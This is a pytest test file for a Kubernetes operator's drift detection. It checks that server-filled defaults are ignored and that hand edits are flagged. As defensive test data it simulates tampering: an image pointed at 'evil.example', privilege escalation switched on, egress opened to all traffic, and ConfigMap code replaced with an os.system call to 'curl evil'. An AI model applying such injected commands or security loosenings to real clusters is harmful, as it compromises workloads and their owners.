"""What drifted (``drift.differences``): the operator's own fields of a child against the object as the API
server returns it, with the fields the server fills in (defaults, canonical quantities, dropped empty
lists, status) never counted, and every change a person can make by hand to those fields counted."""

from __future__ import annotations

import copy
from decimal import Decimal
from typing import Any

import pytest
from lambdalet_operator import drift, manifests
from lambdalet_operator.settings import Settings
from operator_support import UID, function

SETTINGS = Settings()


def stored(manifest: dict[str, Any]) -> dict[str, Any]:
    """``manifest`` as the API server stores and returns it: what a v1.36 API server adds or rewrites on
    write (defaults, server metadata, status, canonical quantities, empty lists dropped)."""
    live = copy.deepcopy(manifest)
    meta = live["metadata"]
    meta |= {
        "uid": "c0ffee00-0000-4000-8000-000000000002",
        "resourceVersion": "4711",
        "creationTimestamp": "2026-11-27T01:00:00Z",
        "managedFields": [{"manager": "lambdalet-operator", "operation": "Update"}],
    }
    kind = live["kind"]
    if kind == "Service":
        live["spec"] |= {
            "clusterIP": "10.96.0.17",
            "clusterIPs": ["10.96.0.17"],
            "sessionAffinity": "None",
            "ipFamilies": ["IPv4"],
            "ipFamilyPolicy": "SingleStack",
            "internalTrafficPolicy": "Cluster",
        }
        live["status"] = {"loadBalancer": {}}
    if kind == "NetworkPolicy" and not live["spec"].get("egress"):
        live["spec"].pop("egress", None)  # omitempty
    if kind == "NetworkPolicy":
        for rule in live["spec"].get("egress", []):
            for port in rule.get("ports", []):
                port.setdefault("protocol", "TCP")
    if kind == "Deployment":
        meta["generation"] = 1
        spec = live["spec"]
        spec |= {"replicas": 3, "progressDeadlineSeconds": 600}
        pod = spec["template"]["spec"]
        spec["template"]["metadata"]["creationTimestamp"] = None
        pod |= {"restartPolicy": "Always", "dnsPolicy": "ClusterFirst", "schedulerName": "default-scheduler"}
        for container in pod["containers"]:
            container |= {"terminationMessagePath": "/dev/termination-log", "terminationMessagePolicy": "File"}
            for probe in ("readinessProbe", "livenessProbe"):
                container[probe]["httpGet"]["scheme"] = "HTTP"
                container[probe].setdefault("successThreshold", 1)
            for variable in container.get("env", []):
                field_ref = (variable.get("valueFrom") or {}).get("fieldRef")
                if field_ref is not None:
                    field_ref["apiVersion"] = "v1"
            resources = container["resources"]
            for section in ("requests", "limits"):
                for key, value in resources.get(section, {}).items():
                    resources[section][key] = canonical(value)
        live["status"] = {"observedGeneration": 1, "replicas": 3, "readyReplicas": 3}
    return live


def canonical(quantity: str) -> str:
    """The API server's canonical form of the quantities the operator writes (``1000m`` → ``1``,
    ``2048Mi`` → ``2Gi``)."""
    if quantity.endswith("m") and int(quantity[:-1]) % 1000 == 0:
        return str(int(quantity[:-1]) // 1000)
    if quantity.endswith("Mi") and int(quantity[:-2]) % 1024 == 0:
        return f"{int(quantity[:-2]) // 1024}Gi"
    return quantity


def children(**spec: Any) -> dict[str, dict[str, Any]]:
    fn = function(**spec)
    out = {
        "Deployment": manifests.deployment(fn, UID, SETTINGS, manifests.code_sha256(fn)),
        "Service": manifests.service(fn, UID),
    }
    for kind, built in (
        ("ConfigMap", manifests.configmap(fn, UID)),
        ("ServiceAccount", manifests.service_account(fn, UID)),
        ("NetworkPolicy", manifests.network_policy(fn, UID)),
    ):
        if built is not None:
            out[kind] = built
    return out


@pytest.mark.parametrize("memory", [128, 1769, 2048])
def test_what_the_api_server_fills_in_is_not_drift(memory: int) -> None:
    """1769 MB is one vCPU (1000m, stored as "1"); 2048 MB is stored as "2Gi"."""
    for kind, manifest in children(memoryMB=memory, network={"egress": []}).items():
        assert drift.differences(manifest, stored(manifest)) == [], kind


def test_the_quantities_the_server_rewrites_are_really_rewritten_in_this_test() -> None:
    deployment = children(memoryMB=2048)["Deployment"]
    [container] = stored(deployment)["spec"]["template"]["spec"]["containers"]
    assert container["resources"]["limits"]["memory"] == "2Gi"
    [container] = stored(children(memoryMB=1769)["Deployment"])["spec"]["template"]["spec"]["containers"]
    assert container["resources"]["requests"]["cpu"] == "1"


def test_replicas_and_annotations_added_by_others_are_not_drift() -> None:
    deployment = children()["Deployment"]
    live = stored(deployment)
    live["spec"]["replicas"] = 9  # the gateway's autoscaler, through the scale subresource
    live["metadata"]["annotations"] = {"deployment.kubernetes.io/revision": "4"}
    live["spec"]["template"]["metadata"]["annotations"]["kubectl.kubernetes.io/restartedAt"] = "2026-11-27T01:02:03Z"
    live["metadata"]["labels"]["team"] = "payments"
    assert drift.differences(deployment, live) == []


def container_of(live: dict[str, Any]) -> dict[str, Any]:
    found: dict[str, Any] = live["spec"]["template"]["spec"]["containers"][0]
    return found


def test_edits_of_the_pod_template_are_drift_at_their_path() -> None:
    deployment = children(environment={"variables": {"STAGE": "prod"}})["Deployment"]
    env_path = "spec.template.spec.containers[0].env"

    changed = stored(deployment)
    variable = next(v for v in container_of(changed)["env"] if v["name"] == "STAGE")
    variable["value"] = "dev"
    index = container_of(changed)["env"].index(variable)
    assert drift.differences(deployment, changed) == [f"{env_path}[{index}].value"]

    added = stored(deployment)
    container_of(added)["env"].append({"name": "DEBUG", "value": "1"})
    assert drift.differences(deployment, added) == [env_path]

    image = stored(deployment)
    container_of(image)["image"] = "evil.example/python:latest"
    assert drift.differences(deployment, image) == ["spec.template.spec.containers[0].image"]

    loosened = stored(deployment)
    container_of(loosened)["securityContext"]["allowPrivilegeEscalation"] = True
    del container_of(loosened)["securityContext"]["capabilities"]
    assert drift.differences(deployment, loosened) == [
        "spec.template.spec.containers[0].securityContext.allowPrivilegeEscalation",
        "spec.template.spec.containers[0].securityContext.capabilities",
    ]

    memory = stored(deployment)
    container_of(memory)["resources"]["limits"]["memory"] = "1Gi"
    assert drift.differences(deployment, memory) == ["spec.template.spec.containers[0].resources.limits.memory"]

    code = stored(deployment)
    code["spec"]["template"]["metadata"]["annotations"][manifests.CODE_HASH_ANNOTATION] = "0" * 64
    assert drift.differences(deployment, code) == [
        f"spec.template.metadata.annotations.{manifests.CODE_HASH_ANNOTATION}"
    ]


def test_a_loosened_network_policy_is_drift() -> None:
    policy = children(network={"egress": []})["NetworkPolicy"]  # deny all egress
    allow_all = stored(policy)
    allow_all["spec"]["egress"] = [{}]
    assert drift.differences(policy, allow_all) == ["spec.egress"]
    no_egress_type = stored(policy)
    no_egress_type["spec"]["policyTypes"] = ["Ingress"]
    assert drift.differences(policy, no_egress_type) == ["spec.policyTypes[0]"]
    other_pods = stored(policy)
    other_pods["spec"]["podSelector"] = {}
    assert drift.differences(policy, other_pods) == ["spec.podSelector.matchLabels"]

    dns_only = children(network={"egress": [{"ports": [{"port": 53, "protocol": "UDP"}]}]})["NetworkPolicy"]
    assert drift.differences(dns_only, stored(dns_only)) == []
    any_port = stored(dns_only)
    del any_port["spec"]["egress"][0]["ports"]
    assert drift.differences(dns_only, any_port) == ["spec.egress[0].ports"]


def test_service_account_token_mounting_turned_back_on_is_drift() -> None:
    account = children()["ServiceAccount"]
    unset = stored(account)
    del unset["automountServiceAccountToken"]  # missing means true: not the same as false
    assert drift.differences(account, unset) == ["automountServiceAccountToken"]


def test_code_edited_or_added_in_the_configmap_is_drift() -> None:
    configmap = children()["ConfigMap"]
    edited = stored(configmap)
    edited["data"]["app.py"] = "import os; os.system('curl evil')"
    assert drift.differences(configmap, edited) == ["data.app.py"]
    extra = stored(configmap)
    extra["data"]["sitecustomize.py"] = "print('hi')"
    assert drift.differences(configmap, extra) == ["data"]


def test_service_and_ownership_changes_are_drift() -> None:
    service = children()["Service"]
    retargeted = stored(service)
    retargeted["spec"]["selector"] = {"app": "something-else"}
    assert drift.differences(service, retargeted) == [f"spec.selector.{manifests.FUNCTION_LABEL}"]
    orphaned = stored(service)
    orphaned["metadata"]["ownerReferences"] = []
    assert drift.differences(service, orphaned) == ["metadata.ownerReferences"]
    relabelled = stored(service)
    relabelled["metadata"]["labels"][manifests.FUNCTION_LABEL] = "other"
    assert drift.differences(service, relabelled) == [f"metadata.labels.{manifests.FUNCTION_LABEL}"]


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("128Mi", Decimal(128 * 1024**2)),
        ("2Gi", Decimal(2 * 1024**3)),
        ("1", Decimal(1)),
        ("1000m", Decimal(1)),
        ("0.5", Decimal("0.5")),
        ("1e3", Decimal(1000)),
        ("1.5k", Decimal(1500)),
        ("250u", Decimal("0.00025")),
    ],
)
def test_quantities_parse_to_their_value(text: str, value: Decimal) -> None:
    assert drift.parse_quantity(text) == value


@pytest.mark.parametrize("text", ["", "Mi", "12Xi", "1.2.3", "abc", "--1"])
def test_what_is_not_a_quantity_is_none(text: str) -> None:
    assert drift.parse_quantity(text) is None


def test_equal_quantities_count_only_where_quantities_live() -> None:
    desired = {"kind": "X", "metadata": {}, "spec": {"name": "1000m", "resources": {"limits": {"cpu": "1000m"}}}}
    live = {"kind": "X", "metadata": {}, "spec": {"name": "1", "resources": {"limits": {"cpu": "1"}}}}
    assert drift.differences(desired, live) == ["spec.name"]
